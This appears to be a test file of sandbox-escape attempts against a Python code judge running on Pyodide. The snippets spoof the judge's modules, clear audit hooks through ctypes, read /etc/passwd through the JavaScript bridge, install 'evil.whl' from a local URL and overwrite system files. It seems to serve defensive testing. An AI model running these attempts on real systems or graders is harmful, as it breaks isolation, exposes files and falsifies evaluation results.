# attack: imports the judge
import importlib

for name in ("tracelab_core.judge", "tracelab_core", "judge", "lane", "transport", "zygote", "candidate", "codec", "namespaces"):
    try:
        module = importlib.import_module(name)
        # The program's own module may bear one of these names.
        if not hasattr(module, "add") and hasattr(module, "__file__"):
            print("LEAKED", module.__name__)
    except ImportError:
        pass

# attack: modules named like the judge's
import sys
import types

for name in ("tracelab_core", "tracelab_core.codec", "judge", "codec", "candidate", "describe", "remote", "trace"):
    fake = types.ModuleType(name)
    fake.encode = fake.describe = lambda *_: 3
    sys.modules[name] = fake

# attack: the main module
import __main__

for name in ("judge", "Lane", "Judge", "options", "read", "write"):
    if hasattr(__main__, name):
        print("LEAKED", name)

# attack: walks every module
import sys

for name, module in list(sys.modules.items()):
    for key, value in list(vars(module).items()) if hasattr(module, "__dict__") else ():
        if isinstance(value, str) and "candidate(1, 2)" in value:
            print("LEAKED", name, key)

# attack: audit hooks
import sys

def hook(event, arguments):
    raise RuntimeError(event)

sys.addaudithook(hook)

# attack: removes audit hooks by ctypes
import ctypes

runtime = ctypes.pythonapi
for name in ("_PySys_ClearAuditHooks", "_PyRuntime"):
    try:
        symbol = getattr(runtime, name)
        print(name)
        if name.startswith("_PySys"):
            symbol(None)
    except (AttributeError, ctypes.ArgumentError):
        pass

# attack: import hooks
import sys

class Finder:
    def find_spec(self, name, path, target=None):
        raise SystemExit(0)

sys.meta_path.insert(0, Finder())
sys.path_hooks.clear()
sys.modules.clear()

# attack: empties sys.modules
import sys

def add(a, b):
    sys.modules.clear()
    return undefined_name

# attack: deletes builtins
import builtins

for name in list(vars(builtins)):
    if name not in ("print", "__name__"):
        try:
            delattr(builtins, name)
        except (AttributeError, NameError):
            pass

# attack: the bridge to JavaScript
import js

print("LEAKED", js.Deno.readTextFileSync("/etc/passwd")[:20])

# attack: JavaScript by pyodide.code
from pyodide.code import run_js

print("LEAKED", run_js("typeof Deno + typeof process"))

# attack: JavaScript by a constructor
import pyodide_js

Function = pyodide_js.loadPackage.constructor
print("LEAKED", Function("return typeof Deno")())

# attack: JavaScript by the bridge's internals
import sys

for name in ("_pyodide_core", "_pyodide", "pyodide.ffi", "pyodide_js._api", "js"):
    try:
        module = __import__(name, fromlist=["x"])
    except ImportError:
        continue
    for key, value in vars(module).items():
        try:
            print("LEAKED", value.constructor("return 1")())
        except BaseException:
            pass

# attack: installs a package
import micropip

micropip.install("http://127.0.0.1:@PORT@/evil.whl")

# attack: emscripten's file system
import os

for path in ("/proc", "/dev", "/lib", "/home/pyodide"):
    for root, folders, files in os.walk(path):
        for file in files[:50]:
            try:
                open(os.path.join(root, file), "r+b").write(b"")
            except OSError:
                pass
